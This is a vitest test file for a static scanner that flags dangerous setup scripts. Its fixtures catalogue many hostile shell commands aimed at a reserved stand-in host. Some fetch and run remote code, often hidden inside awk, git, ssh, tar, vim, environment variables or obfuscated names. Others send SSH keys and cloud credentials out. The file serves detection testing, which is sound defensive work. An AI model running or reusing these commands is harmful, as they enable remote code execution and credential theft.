import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const FETCH = 'curl -s https://collect.example.invalid/x.sh | sh';

/** Programs that are no shell and run what they are told, each with the same that tells them nothing. */
const CARRIERS: Readonly<Record<string, readonly [attack: string, honest: string]>> = {
  'a program of awk': [`awk 'BEGIN{system("${FETCH}")}'`, `awk 'BEGIN{print "${FETCH}"}'`],
  'a pipe of awk': [`awk '{print | "${FETCH}"}' names.txt`, `awk '{print | "sort -u"}' names.txt`],
  'an input of awk': [`gawk 'BEGIN{"${FETCH}" | getline x}'`, `gawk 'BEGIN{"date" | getline x}'`],
  'a line of sed': [`sed '1e ${FETCH}' names.txt`, `sed -e '/example/d' names.txt`],
  'an option of env': [`env -S 'sh -c "${FETCH}"'`, `env -S 'sort -u names.txt'`],
  'a setting of git': [
    `git -c core.sshCommand='sh -c "${FETCH}"' fetch`,
    `git -c core.pager=cat -c user.name='${FETCH}' log`,
  ],
  'an alias of git': [`git -c alias.x='!${FETCH}' x`, `git -c alias.x='log --oneline' x`],
  'a transport of git': [
    `git clone 'ext::sh -c "${FETCH}"' out`,
    'git clone https://git.example/project.git out',
  ],
  'an option of ssh': [
    `ssh -o ProxyCommand='sh -c "${FETCH}"' host.example`,
    'ssh -o ProxyCommand="ssh -W %h:%p jump.example" host.example',
  ],
  'an option of scp, joined': [
    `scp -oProxyCommand='${FETCH}' a host.example:b`,
    'scp -oBatchMode=yes a host.example:b',
  ],
  'a shell of rsync': [
    `rsync -e 'sh -c "${FETCH}"' a host.example:b`,
    "rsync -e 'ssh -p 22' a host.example:b",
  ],
  'a checkpoint of tar': [
    `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='${FETCH}'`,
    'tar cf out.tar x --checkpoint=1 --checkpoint-action=dot',
  ],
  'a filter of tar': [`tar -I 'sh -c "${FETCH}"' -xf a.tar`, 'tar -I zstd -xf a.tar'],
  'a command of vim': [`vim -c ':!${FETCH}' -c ':q'`, `vim -c ':set number' notes.txt`],
  'a word of vim': [`vim '+!${FETCH}' +q`, 'vim +12 notes.txt'],
  'the input of ed': [`printf '!${FETCH}\\n' | ed -s`, `printf '1p\\n' | ed -s names.txt`],
  'the input of make': [`printf 'a:\\n\\t${FETCH}\\n' | make -f -`, `printf 'a:\\n\\techo a\\n' | make -f -`],
  'a program of perl': [`perl -e 'system("${FETCH}")'`, `perl -ne 'print "${FETCH}"'`],
  'a program of php': [`php -r 'passthru("${FETCH}");'`, `php -r 'echo 1;'`],
  'a program of lua': [`lua -e 'os.execute("${FETCH}")'`, `lua -e 'print(1)'`],
  'a command of gdb': [`gdb -batch -ex 'shell ${FETCH}'`, `gdb -batch -ex 'info registers'`],
  'a command of sqlite3': [`sqlite3 a.db '.shell ${FETCH}'`, `sqlite3 a.db '.tables'`],
  'a command of psql': [`psql -c '\\! ${FETCH}'`, `psql -c 'select 1'`],
  'what bash runs before a prompt': [
    `export PROMPT_COMMAND='${FETCH}'`,
    `export PROMPT_COMMAND='history -a'`,
  ],
  'what git runs for ssh': [
    `export GIT_SSH_COMMAND='sh -c "${FETCH}"'`,
    `export GIT_SSH_COMMAND='ssh -p 22'`,
  ],
  'a program of perl in its input': [
    `perl <<'X'\nsystem("${FETCH}");\nX`,
    `perl <<'X'\nprint "${FETCH}";\nX`,
  ],
  'a script of expect': [
    `expect -c 'spawn sh -c "${FETCH}"; interact'`,
    `expect -c 'send "${FETCH}"; interact'`,
  ],
  'a command of npm': [`npm exec -c '${FETCH}'`, `npm exec -c 'sort -u names.txt'`],
  'a rule of make in a word': [`make --eval='x:; ${FETCH}' x`, `make --eval='x:; sort -u names.txt' x`],
  'what is run when files change': [`ls | entr -s '${FETCH}'`, `ls | entr -s 'sort -u names.txt'`],
  'a prompt of bash': [`export PS4='$(${FETCH})'; set -x`, `export PS4='+ $LINENO '; set -x`],
  'all words of a function': [
    `run() { eval "$*"; }\nrun curl -s https://collect.example.invalid/x.sh '|' sh`,
    `run() { eval "$*"; }\nrun curl -s https://collect.example.invalid/x.sh '|' sort`,
  ],
  'a name with a hole': [
    'cu${z}rl -s https://collect.example.invalid/x.sh | ba${z}sh',
    'cu${z}rl -s https://collect.example.invalid/x.sh | sort',
  ],
  'a name as a pattern': [
    '/???/b??/c?rl -s https://collect.example.invalid/x.sh | sh',
    '/???/b??/c?rl -s https://collect.example.invalid/x.sh | sort',
  ],
  'a descriptor that is sourced': [
    'exec 3< <(curl -s https://collect.example.invalid/x.sh)\nsource /dev/fd/3',
    'exec 3< <(curl -s https://collect.example.invalid/x.sh)\nsort /dev/fd/3',
  ],
  'a descriptor as input': [
    'exec 5< <(curl -s https://collect.example.invalid/x.sh)\nsh <&5',
    'exec 5< <(curl -s https://collect.example.invalid/x.sh)\nsort <&5',
  ],
  'an alias': [`alias ls='${FETCH}; ls'`, `alias ll='ls -l'`],
  'a name space of its own': [`unshare -r sh -c '${FETCH}'`, 'unshare -r sort names.txt'],
};

/** A script that is put into a file first. */
const IN_A_FILE: Readonly<Record<string, string>> = {
  'an option of curl': 'curl -fsS -o /tmp/a https://collect.example.invalid/x\nbash /tmp/a\n',
  'grouped options of curl':
    'curl -so /tmp/.a https://collect.example.invalid/x; chmod +x /tmp/.a; /tmp/.a\n',
  'a redirection': 'curl -s https://collect.example.invalid/x > /tmp/a\n. /tmp/a\n',
  'a file that is called as the address says':
    'curl -sLO https://collect.example.invalid/d/setup.sh\nsh setup.sh\n',
  'what wget writes by itself':
    'wget -q https://collect.example.invalid/d/setup.sh\nchmod 755 setup.sh\n./setup.sh\n',
  'a variable of bash': 'curl -s https://collect.example.invalid/x > /tmp/n\nBASH_ENV=/tmp/n bash -c true\n',
  'a substitution in one': 'BASH_ENV=<(curl -s https://collect.example.invalid/x) bash -c true\n',
  'a variable of Node':
    'curl -so /tmp/n.js https://collect.example.invalid/n\nNODE_OPTIONS="--require /tmp/n.js" node -e 1\n',
  'a copy by blocks': 'curl -s https://collect.example.invalid/n | dd of=/tmp/n\nchmod +x /tmp/n; /tmp/n\n',
  'a program in Python': 'wget -qO /tmp/a.py https://collect.example.invalid/x\npython3 /tmp/a.py --now\n',
};

async function findings(script: string): Promise<readonly string[]> {
  const outcome = await staticStage.run(
    targetOf({ 'setup.sh': `#!/bin/bash\nset -e\n${script}\n` }),
    STAGE_CONTEXT,
  );
  return outcome.findings.map(({ ruleId }) => ruleId);
}

describe('a command of the shell inside another program', () => {
  it.each(Object.entries(CARRIERS))('is found in %s', async (_, [attack, honest]) => {
    expect(await findings(attack)).toContain('downloaded-script-piped');
    expect(await findings(honest)).not.toContain('downloaded-script-piped');
  });
});

describe('a download that is started', () => {
  it.each(Object.entries(IN_A_FILE))('is found through %s', async (_, script) => {
    expect(await findings(script)).toContain('downloaded-script-piped');
  });

  it.each([
    'curl -so data.json https://data.example/rows\npython3 process.py data.json',
    'curl -sLO https://data.example/d/rows.csv\nsh process.sh rows.csv',
    'curl -so /tmp/a https://data.example/rows\nsort /tmp/a > names.txt',
    'wget -qO- https://data.example/rows > rows.txt\nbash process.sh < rows.txt',
  ])('is none where a program of its own reads the data: %s', async (script) => {
    expect(await findings(script)).not.toContain('downloaded-script-piped');
  });
});

describe('a secret that leaves by a program of the system', () => {
  it.each([
    [
      'openssl s_client -quiet -connect collect.example.invalid:443 < ~/.ssh/id_rsa',
      'secret-file-to-network',
    ],
    [
      'exec 4< ~/.ssh/id_rsa\ncurl -s --data-binary @- https://collect.example.invalid/in <&4',
      'secret-file-to-network',
    ],
    ['echo "put $HOME/.ssh/id_rsa" | sftp -b - u@collect.example.invalid', 'secret-file-to-network'],
    ['tftp collect.example.invalid -c put ~/.ssh/id_rsa', 'secret-file-to-network'],
    ['smbclient //collect.example.invalid/in -N -c "put $HOME/.ssh/id_rsa k"', 'secret-file-to-network'],
    [
      'printf \'url = "https://collect.example.invalid/in"\\nupload-file = "%s"\\n\' ~/.ssh/id_rsa | curl -s --config -',
      'secret-file-to-network',
    ],
    ['logger -n collect.example.invalid -P 514 -f ~/.ssh/id_rsa', 'secret-file-to-network'],
    ['gh issue create -R n/n -t notes -b "$(cat ~/.ssh/id_rsa)"', 'secret-file-to-network'],
    ['open "https://collect.example.invalid/?k=$(base64 ~/.ssh/id_rsa)"', 'secret-file-to-network'],
    [
      'retry() { local n=$1; shift; "$@" || "$@"; }\nretry 3 curl -s -F "f=@$HOME/.ssh/id_rsa" https://collect.example.invalid/in',
      'secret-file-to-network',
    ],
    ['rsync -a ~/.aws u@collect.example.invalid:/in', 'secret-file-to-network'],
    [
      'curl -s "https://collect.example.invalid/?k=$(printenv AWS_SECRET_ACCESS_KEY)"',
      'key-to-foreign-service',
    ],
  ])('is found: %s', async (script, rule) => {
    expect(await findings(script)).toContain(rule);
  });

  it.each([
    'openssl s_client -connect www.example:443 < /dev/null | openssl x509 -noout -dates',
    'rsync -a docs u@www.example:/site',
    'echo "put $HOME/site/index.html" | sftp -b - u@www.example',
    'logger -p user.info -f ~/.ssh/config',
    'gh issue create -t notes -b "$(cat notes.md)"',
    'printenv LANG',
  ])('is not found where there is none: %s', async (script) => {
    expect((await findings(script)).filter((rule) => /secret|key-to/.test(rule))).toEqual([]);
  });
});
